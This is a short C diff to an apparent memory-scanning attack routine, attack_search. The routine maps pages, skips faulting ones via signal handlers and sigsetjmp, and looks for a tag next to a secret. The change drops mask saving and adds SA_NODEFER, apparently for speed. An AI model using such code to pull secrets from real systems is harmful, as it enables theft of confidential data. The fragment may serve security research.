@@ -55,7 +55,7 @@ static int search_in(int fd, long first, long pages, const unsigned char *tag,
 	if (p == MAP_FAILED)
 		return 0;
 	for (i = 0; i < pages && !found; i++) {
-		if (sigsetjmp(denied, 1))
+		if (sigsetjmp(denied, 0))
 			continue;
 		if (memcmp(p + i * page, tag, ATTACK_TAG))
 			continue;
@@ -69,7 +69,8 @@ static int search_in(int fd, long first, long pages, const unsigned char *tag,
 int attack_search(int fd, const unsigned char tag[ATTACK_TAG],
 		  unsigned char secret[ATTACK_SECRET])
 {
-	struct sigaction on = { .sa_handler = on_fault }, segv, bus;
+	/* Nothing is blocked in the handler: no mask is to be saved for each page. */
+	struct sigaction on = { .sa_handler = on_fault, .sa_flags = SA_NODEFER }, segv, bus;
 	long above = reach(fd, 0, 1), below = reach(fd, -1, -1);
 	int found;
 
